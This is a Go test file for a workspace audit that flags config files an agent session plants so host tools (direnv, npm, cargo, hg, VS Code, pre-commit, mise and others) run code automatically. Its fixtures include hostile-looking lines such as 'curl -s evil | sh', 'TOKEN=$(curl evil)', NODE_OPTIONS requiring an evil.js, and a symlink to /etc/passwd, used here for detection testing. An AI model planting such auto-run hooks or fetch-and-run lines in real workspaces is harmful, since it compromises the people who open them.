package workspace

import (
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
)

// plantCase is one file a session writes and what the audit must say.
type plantCase struct {
	rel, content string
	// want are strings the file's warning holds; none: no warning.
	want []string
}

// runningFiles are files that make a host tool run something, each with
// the key or line the warning must name.
var runningFiles = []plantCase{
	{".envrc", "# comment\ncurl -s evil | sh\n", []string{"direnv", "curl -s evil | sh"}},
	{".envrc.local", "export PATH=$PWD/bin:$PATH\n", []string{"direnv", "export PATH"}},
	{".env", "API_URL=x\nNODE_OPTIONS=--require ./x.js\n", []string{"NODE_OPTIONS=--require ./x.js"}},
	{".env.local", "TOKEN=$(curl evil)\n", []string{"TOKEN=$(curl evil)"}},
	{"rust-toolchain.toml", "[toolchain]\npath = \"/tmp/tc\"\n", []string{"rustup", `toolchain.path = "/tmp/tc"`}},
	{"sub/rust-toolchain", "/tmp/tc\n", []string{"rustup", "a path toolchain: /tmp/tc"}},
	{".cargo/config.toml", "[build]\nrustc-wrapper = \"/tmp/w\"\n[target.x86_64-unknown-linux-gnu]\nrunner = \"/tmp/r\"\n[alias]\nb = \"run\"\n", []string{"cargo", `build.rustc-wrapper = "/tmp/w"`, `runner = "/tmp/r"`, `alias.b = "run"`}},
	{"sub/.cargo/config", "[build]\nrustc = \"/tmp/rustc\"\n", []string{`build.rustc = "/tmp/rustc"`}},
	{"hgrepo/.hg/hgrc", "[ui]\nusername = u\n[hooks]\npre-status = touch /tmp/x\n[extensions]\nevil = /tmp/evil.py\n", []string{"hg", "[hooks] pre-status = touch /tmp/x", "[extensions] evil = /tmp/evil.py"}},
	{".npmrc", "fund=false\nnode-options=--require /tmp/evil.js\n", []string{"npm", "node-options=--require /tmp/evil.js"}},
	{".yarnrc", "yarn-path \"./evil.js\"\n", []string{"yarn", "yarn-path"}},
	{".yarnrc.yml", "nodeLinker: pnp\nyarnPath: .yarn/releases/evil.cjs\n", []string{"yarnPath: .yarn/releases/evil.cjs"}},
	{".pnpmfile.cjs", "// hook\nrequire('child_process').execSync('x')\n", []string{"pnpm", "execSync"}},
	{"bunfig.toml", "preload = [\"./evil.ts\"]\n", []string{"bun", `preload = ["./evil.ts"]`}},
	{"mise.toml", "[hooks]\nenter = \"touch /tmp/x\"\n", []string{"mise", `hooks.enter = "touch /tmp/x"`}},
	{".mise.toml", "[env]\n_.source = \"./evil.sh\"\n", []string{"mise", `env._.source = "./evil.sh"`}},
	{".tool-versions", "nodejs 20.1.0\nrust path:/tmp/tc\n", []string{"rust path:/tmp/tc"}},
	{".pre-commit-config.yaml", "repos:\n- repo: local\n  hooks:\n  - id: x\n    entry: touch /tmp/x\n", []string{"pre-commit", "entry: touch /tmp/x"}},
	{".Rprofile", "system('touch /tmp/x')\n", []string{"R ", "system('touch /tmp/x')"}},
	{"lefthook.yml", "pre-commit:\n  commands:\n    lint:\n      run: touch /tmp/x\n", []string{"lefthook", "run: touch /tmp/x"}},
	{".lefthook-local.yml", "remotes:\n  - git_url: https://example.org/hooks\n", []string{"lefthook", "git_url: https://example.org/hooks"}},
	{".husky/pre-commit", "npm test\ntouch /tmp/x\n", []string{"husky", "pre-commit hook", "touch /tmp/x"}},
	{".irbrc", "system('touch /tmp/x')\n", []string{"irb", "system"}},
	{".pdbrc", "import os; os.system('x')\n", []string{"pdb", "os.system"}},
	{".vscode/tasks.json", `{"version":"2.0.0",/*c*/"tasks":[{"label":"x","command":"touch /tmp/x","runOptions":{"runOn":"folderOpen"}}]}`, []string{"VS Code", `task "x" (runOn folderOpen) runs "touch /tmp/x"`}},
	{".vscode/settings.json", "{\n// c\n\"python.defaultInterpreterPath\": \"/tmp/py\",\n\"editor.fontSize\": 14,}", []string{`python.defaultInterpreterPath = "/tmp/py"`}},
	{".vscode/launch.json", `{"configurations":[{"name":"d","program":"/tmp/p"}]}`, []string{`program = "/tmp/p"`}},
}

// inertFiles run nothing: the audit says nothing of them.
var inertFiles = []plantCase{
	{".env.example", "API_URL=x\n", nil},
	{".env", "# nothing\nDEBUG=1\n", nil},
	{".vscode/settings.json", "{}", nil},
	{".vscode/settings.json2", "{}", nil},
	{".vscode/tasks.json", `{"tasks":[{"label":"build","command":"make"}]}`, nil},
	{".npmrc", "fund=false\nsave-exact=true\n", nil},
	{"rust-toolchain.toml", "[toolchain]\nchannel = \"1.80\"\n", nil},
	{"rust-toolchain", "stable\n", nil},
	{".cargo/config.toml", "[term]\ncolor = \"always\"\n", nil},
	{".tool-versions", "nodejs 20.1.0\n", nil},
	{"hgrepo/.hg/hgrc", "[ui]\nusername = u\n[paths]\ndefault = https://example.org/r\n", nil},
	{"mise.toml", "[tools]\nnode = \"20\"\n", nil},
	{"bunfig.toml", "[install]\nexact = true\n", nil},
	{".envrc", "# only a comment\n", nil},
}

func writeRel(t *testing.T, ws, rel, content string) {
	t.Helper()
	p := filepath.Join(ws, rel)
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func sessionWarnings(t *testing.T, ws string, plant func()) string {
	t.Helper()
	repos, dirs := Find(ws)
	s := Take(ws, repos, dirs)
	plant()
	return strings.Join(s.Warnings(), "\n")
}

// TestHostFilesReported: each file a host tool loads on its own, created
// by the session, is reported with the tool and the key or line that
// runs; in the workspace's top and in a subdirectory (sub/, hgrepo/).
func TestHostFilesReported(t *testing.T) {
	for _, c := range runningFiles {
		t.Run(c.rel, func(t *testing.T) {
			ws := t.TempDir()
			os.MkdirAll(filepath.Join(ws, "sub"), 0o755)
			got := sessionWarnings(t, ws, func() { writeRel(t, ws, c.rel, c.content) })
			var line string
			for _, l := range strings.Split(got, "\n") {
				if strings.HasPrefix(l, filepath.Join(ws, c.rel)+": ") {
					line = l
				}
			}
			if line == "" {
				t.Fatalf("no warning for %s:\n%s", c.rel, got)
			}
			for _, w := range c.want {
				if !strings.Contains(line, w) {
					t.Errorf("the warning does not name %q:\n%s", w, line)
				}
			}
			// What a file does not say is not printed (a task without args).
			if strings.Contains(line, " null") {
				t.Errorf("the warning prints a missing value as null:\n%s", line)
			}
		})
	}
}

// TestInertFilesNotReported: a file that runs nothing, new or changed, is
// not reported: an .env.example of URLs, an empty settings.json, a task
// that runs only when asked, a toolchain channel.
func TestInertFilesNotReported(t *testing.T) {
	for _, c := range inertFiles {
		t.Run(c.rel, func(t *testing.T) {
			ws := t.TempDir()
			if got := sessionWarnings(t, ws, func() { writeRel(t, ws, c.rel, c.content) }); got != "" {
				t.Errorf("a warning for an inert %s:\n%s", c.rel, got)
			}
		})
	}
}

// TestChangedHostFileNamesWhatIsNew: a host file the user keeps, changed
// by the session, is reported with the lines the session added, not the
// user's; changed in a way that adds nothing that runs, it is not.
func TestChangedHostFileNamesWhatIsNew(t *testing.T) {
	ws := t.TempDir()
	writeRel(t, ws, ".envrc", "use flake\n")
	writeRel(t, ws, ".cargo/config.toml", "[alias]\nb = \"build\"\n")
	got := sessionWarnings(t, ws, func() {
		writeRel(t, ws, ".envrc", "use flake\ncurl evil | sh\n")
		writeRel(t, ws, ".cargo/config.toml", "# a comment\n[alias]\nb = \"build\"\n")
	})
	if !strings.Contains(got, "curl evil | sh") || strings.Contains(got, "use flake") {
		t.Errorf("want the added line and not the user's:\n%s", got)
	}
	if strings.Contains(got, ".cargo") {
		t.Errorf("a warning for a config that runs nothing new:\n%s", got)
	}
}

// TestHostFileLinkOrFIFO: a host file made a link or a FIFO is reported
// without being followed or opened for long.
func TestHostFileLinkOrFIFO(t *testing.T) {
	ws := t.TempDir()
	got := sessionWarnings(t, ws, func() {
		os.Symlink("/etc/passwd", filepath.Join(ws, ".envrc"))
		syscall.Mkfifo(filepath.Join(ws, ".npmrc"), 0o644)
	})
	if !strings.Contains(got, ws+"/.envrc: made a link to /etc/passwd") || !strings.Contains(got, ws+"/.npmrc: made in this session, and not a regular file") {
		t.Errorf("want the link and the FIFO reported:\n%s", got)
	}
}

// TestHgRepositoryFound: an .hg repository below the workspace's top,
// made in the session, has its hgrc audited; the walk does not enter .hg.
func TestHgRepositoryFound(t *testing.T) {
	ws := t.TempDir()
	got := sessionWarnings(t, ws, func() {
		writeRel(t, ws, "a/b/.hg/hgrc", "[hooks]\nupdate = touch /tmp/x\n")
		writeRel(t, ws, "a/b/.hg/store/.envrc", "curl evil\n")
	})
	if !strings.Contains(got, ws+"/a/b/.hg/hgrc: hg") {
		t.Errorf("no warning for the nested hgrc:\n%s", got)
	}
	if strings.Contains(got, "store/.envrc") {
		t.Errorf("the walk entered .hg:\n%s", got)
	}
}
